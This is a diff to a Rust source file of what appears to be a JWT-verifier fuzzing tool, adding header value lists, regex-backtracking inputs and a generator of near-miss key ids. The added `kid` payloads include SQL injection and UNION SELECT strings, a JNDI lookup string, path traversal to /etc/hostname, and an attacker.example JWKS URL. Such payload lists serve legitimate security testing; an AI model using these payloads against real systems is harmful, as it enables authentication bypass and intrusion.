@@ -3,7 +3,7 @@
 //! Values are raw JSON text, written verbatim. Deliberately absent: which of them belongs to which advisory; that is said in the
 //! attack files. A word earns its place by being of a kind that lax code trips over, not by any one library.
 
-use crate::target::Trust;
+use crate::{harvest::Harvest, target::Trust};
 
 /// `alg` values that might mean "not signed", or nothing at all.
 pub const UNSIGNED: &[&str] = &[
@@ -93,6 +93,21 @@ pub const ALGORITHMS: &[&str] = &[
     "1.2.840.113549.1.1.11",
 ];
 
+/// `alg` values of JWE (RFC 7518 section 4.1).
+pub const KEY_MANAGEMENT: &[&str] =
+    &["dir", "RSA-OAEP", "RSA-OAEP-256", "RSA1_5", "A128KW", "A256KW", "ECDH-ES", "ECDH-ES+A256KW", "A256GCMKW", "PBES2-HS256+A128KW"];
+
+/// `enc` values (RFC 7518 section 5.1).
+pub const ENCRYPTION: &[&str] = &["A256GCM", "A128GCM", "A128CBC-HS256", "A256CBC-HS512", "none"];
+
+/// What may stand between two tokens where code takes more than one.
+pub const SEPARATORS: &[&str] =
+    &["\n", "\r\n", ",", ", ", " ", ";", "; ", "|", "\0", "~", "&", "\t", ".", "\r", "\u{b}", "\u{2028}", "#", "?", "/", ""];
+
+/// A text to be repeated, and an end: patterns that backtrack need long for it.
+pub const BOMBS: &[(&str, &str)] =
+    &[("aaaaaaaa", "!"), ("a-a.", "-"), ("00000000", "x"), ("        ", "x"), ("a/", "\u{0}"), ("((((", ""), ("@a", "@@"), ("\u{e9}", "\\n")];
+
 /// `kid` values as raw JSON, with the keys that a look-up which goes astray may yield.
 pub const KEY_IDS: &[(&str, &[&str])] = &[
     (r#""no-such-key""#, &["", "undefined", "null", "None", "nil", "false", "0", "[object Object]", "NaN", "\n", "\0"]),
@@ -148,6 +163,29 @@ pub const KEY_IDS: &[(&str, &[&str])] = &[
     (r#""default""#, &["", "default"]),
     (r#""https://attacker.example/jwks.json""#, &[""]),
     (r#""data:,""#, &[""]),
+    (r#""%""#, &["", "secret", "changeme", "test"]),
+    (r#""_%""#, &["", "secret", "changeme", "test"]),
+    (r#""x' OR 1=1-- -""#, &["", "secret", "changeme"]),
+    (r#""x' UNION SELECT 'HS256','gauntlet'-- -""#, &["gauntlet"]),
+    (r#""x' UNION SELECT 'gauntlet','HS256'-- -""#, &["gauntlet"]),
+    (r#""x' UNION SELECT 'gauntlet','gauntlet'-- -""#, &["gauntlet"]),
+    (r#""x' UNION SELECT 'gauntlet','gauntlet','gauntlet'-- -""#, &["gauntlet"]),
+    (r#""x' UNION SELECT 'x','HS256','gauntlet'-- -""#, &["gauntlet"]),
+    (r#""x' UNION SELECT 1,'gauntlet'-- -""#, &["gauntlet"]),
+    (r#""__doc__""#, &["None", ""]),
+    (r#""__module__""#, &["__main__", "builtins"]),
+    (r#""__name__""#, &["Settings", "Config", "Keys", "__main__"]),
+    (r#""__dict__""#, &["{}"]),
+    (r#""__hash__""#, &["None"]),
+    (r#""prototype""#, &["[object Object]", ""]),
+    (r#""name""#, &["", "Object", "Function"]),
+    (r#""size""#, &["0", "1", "2"]),
+    (r#""${jndi:ldap://127.0.0.1/x}""#, &[""]),
+    (r#""key-1:gauntlet""#, &["gauntlet", "key-1", ""]),
+    (r#""../../../../../../etc/hostname""#, &[""]),
+    (r#""aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!""#, &[""]),
+    (r#""a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a-""#, &[""]),
+    (r#""00000000000000000000000000000000000000000000x""#, &[""]),
 ];
 
 /// `jku` and `x5u` values as raw JSON that need no host, with what they give to whoever fetches them and takes it for a secret.
@@ -441,6 +479,9 @@ pub const TIMES: &[&str] = &[
     "-0",
     "2147483648",
     "0.1",
+    "1e99999999",
+    "-1e99999999",
+    "1E+400",
 ];
 
 /// `crit` values: extensions nobody knows, and shapes that RFC 7515 section 4.1.11 forbids.
@@ -463,6 +504,12 @@ pub const CRITICAL: &[&str] = &[
     r#"["b64","x-unknown"]"#,
     r#"{"x-unknown":true}"#,
     "0",
+    r#"["http"]"#,
+    r#"["sigt","url"]"#,
+    r#"["jwk"]"#,
+    r#"["crit"]"#,
+    r#"["cty","zip","typ"]"#,
+    r#"["__proto__"]"#,
 ];
 
 /// `typ` and `cty` values.
@@ -486,6 +533,19 @@ pub const TYPES: &[&str] = &[
     r#""none""#,
     r#""SAML""#,
     r#""text/plain""#,
+    r#""plain""#,
+    r#""unsecured""#,
+    r#""unsigned""#,
+    r#""UNSECURED""#,
+    r#""refresh+jwt""#,
+    r#""id+jwt""#,
+    r#""token-introspection+jwt""#,
+    r#""kb+jwt""#,
+    r#""vc+sd-jwt""#,
+    r#""trust-mark+jwt""#,
+    r#""entity-statement+jwt""#,
+    r#""debug""#,
+    r#""test""#,
 ];
 
 /// Payloads that are no object of claims, or hardly.
@@ -645,13 +705,25 @@ pub const OPENERS: &[&str] =
 pub struct Words {
     /// Words that the target knows: names, texts.
     pub harvested: Vec<String>,
+    /// Up to three of them that are written side by side.
+    pub neighbours: Vec<Vec<String>>,
 }
+
+/// Neighbourhoods that a sampler deals from.
+const NEIGHBOURHOODS: usize = 4_000;
 
 impl Words {
     /// The built-in vocabulary and these words of the target's.
     #[must_use]
-    pub fn with(harvested: Vec<String>) -> Self {
-        Self { harvested }
+    pub fn with(harvested: impl Into<Harvest>) -> Self {
+        let Harvest { words, passages } = harvested.into();
+        let three = |passage: &Vec<String>| {
+            let windows = passage.windows(passage.len().min(3));
+            windows.map(<[String]>::to_vec).collect::<Vec<_>>()
+        };
+        let mut neighbours: Vec<Vec<String>> = passages.iter().flat_map(three).collect();
+        neighbours.truncate(NEIGHBOURHOODS);
+        Self { harvested: words, neighbours }
     }
 
     /// Words that may open a back door: the target's own, else such as are often used.
@@ -751,6 +823,37 @@ pub fn lookalikes(own: &str) -> Vec<String> {
         "{}".to_owned(),
     ];
     texts.iter().map(|t| quoted(t)).chain(shapes).collect()
+}
+
+/// Ids like the configured one, as JSON: numbers around its own, what is cut or folded, places in a list.
+#[must_use]
+pub fn near_kids(own: &str) -> Vec<String> {
+    let stem = own.trim_end_matches(|c: char| c.is_ascii_digit());
+    let number: i64 = own[stem.len()..].parse().unwrap_or(1);
+    let mut texts: Vec<String> = [0, number - 1, number + 1, number + 9, -1].map(|n| format!("{stem}{n}")).into();
+    texts.extend([
+        format!("{stem}0{number}"),
+        stem.to_owned(),
+        format!("{own} "),
+        format!("{own}\0"),
+        format!("{own}\n"),
+        format!("{own}x"),
+        format!("./{own}"),
+        format!("{own}/../{own}"),
+        format!("{own}?x"),
+        format!("{own}#x"),
+        own.to_uppercase(),
+        own.chars().rev().collect(),
+        own.chars().take(1).collect(),
+        "0".to_owned(),
+        "-1".to_owned(),
+        "1e9".to_owned(),
+    ]);
+    texts.retain(|text| text != own);
+    texts.sort();
+    texts.dedup();
+    let shapes = ["0", "1", "-1", "1.5", "null", "true", "[]"].map(str::to_owned);
+    texts.iter().map(|text| quoted(text)).chain(shapes).chain([format!("[{}]", quoted(own))]).collect()
 }
 
 /// What the trust names: texts that an attacker knows as well as the operator.
